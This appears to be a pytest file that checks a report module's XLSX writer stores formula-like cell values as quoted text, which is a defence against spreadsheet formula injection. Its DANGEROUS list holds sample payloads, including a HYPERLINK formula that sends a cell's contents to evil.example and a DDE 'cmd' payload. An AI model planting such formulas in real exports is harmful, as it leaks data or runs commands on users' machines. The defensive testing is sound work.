"""The one XLSX writer: text that a spreadsheet would run as a formula stays text."""

from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from sikap.reports.xlsx import write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62812345",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _read(output):
    sheet = load_workbook(output).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_that_looks_like_a_formula_is_written_as_text(value):
    (header, row) = _read(write_xlsx(["Nama"], [[value]]))
    (cell,) = row
    assert cell.data_type == "s"
    assert cell.value == value
    assert cell.quotePrefix


def test_a_header_that_looks_like_a_formula_is_text_too():
    (header,) = _read(write_xlsx(["=1+1"], []))
    assert header[0].data_type == "s"
    assert header[0].value == "=1+1"


def test_ordinary_values_keep_their_types():
    rows = [["Budi", 12, Decimal("2.5"), date(2020, 1, 2), None, "a=b", "Rp -5"]]
    (_, row) = _read(write_xlsx(["a", "b", "c", "d", "e", "f", "g"], rows))
    assert [c.data_type for c in row[:4]] == ["s", "n", "n", "d"]
    assert row[3].value.date() == date(2020, 1, 2)
    assert row[4].value is None
    assert [row[5].value, row[6].value] == ["a=b", "Rp -5"]
    assert not row[0].quotePrefix
